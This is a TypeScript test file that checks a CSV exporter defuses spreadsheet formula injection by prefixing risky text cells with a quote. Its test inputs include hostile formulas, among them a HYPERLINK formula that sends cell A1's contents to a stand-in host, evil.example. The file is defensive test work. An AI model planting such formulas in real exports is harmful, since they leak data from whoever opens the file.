// CSV formula injection (OWASP): a video name such as =HYPERLINK(...) must reach the change list as
// text a spreadsheet will not run, while numbers (a -1 label, a negative score) stay numbers.
import { afterEach, describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { csvField, csvText, writeCsvExport, type CsvRow } from '../../../../src/main/core/export/csv-writer';
import { decide } from '../../../../src/main/core/review/decisions';
import { makeProject, type TestProject } from '../../store/fixtures';

let p: TestProject | null = null;
afterEach(() => {
  p?.cleanup();
  p = null;
});

const row = (video: string, extra: Partial<CsvRow> = {}): CsvRow => ({
  video,
  frame: 1,
  original: 0,
  cleaned: -1,
  action: 'exclude',
  score: -0.25,
  time: '2026-01-01T00:00:00.000Z',
  ...extra,
});

describe('CSV formula injection', () => {
  it('prefixes text cells starting with = + - @ tab or CR with a quote (quoted as needed), and leaves numbers alone', () => {
    expect(csvField('=HYPERLINK("http://evil.example","x")')).toBe(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
    expect(csvField('+1+cmd')).toBe("'+1+cmd");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('12-24-1920x1080_left')).toBe('12-24-1920x1080_left');
    expect(csvField('a=b')).toBe('a=b');
    // numbers stay numbers: a -1 label and a negative score are not text to defuse
    expect(csvField(-1)).toBe('-1');
    expect(csvField(-0.25)).toBe('-0.25');
    expect(csvField(null)).toBe('');
    expect(csvText([row('v')]).split('\n')[1]).toBe('v,1,0,-1,exclude,-0.25,2026-01-01T00:00:00.000Z');
  });

  it('writes a video named =HYPERLINK(...) as text in the exported change list', () => {
    const name = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
    p = makeProject([
      { name, labels: [0, 1] },
      { name: '@evil', labels: [2] },
    ]);
    decide(p.db, { frameIds: [p.frame(name, 2)], action: 'exclude' });
    decide(p.db, { frameIds: [p.frame('@evil', 1)], action: 'relabel', label: 3 });
    const out = writeCsvExport(p.db, join(p.dir, 'out'));
    const lines = readFileSync(out.files[0]!, 'utf8').trimEnd().split('\n');
    expect(lines[1]).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A1,""click""\)",2,1,-1,exclude,,/);
    expect(lines[2]).toMatch(/^'@evil,1,2,3,relabel,,/);
  });
});
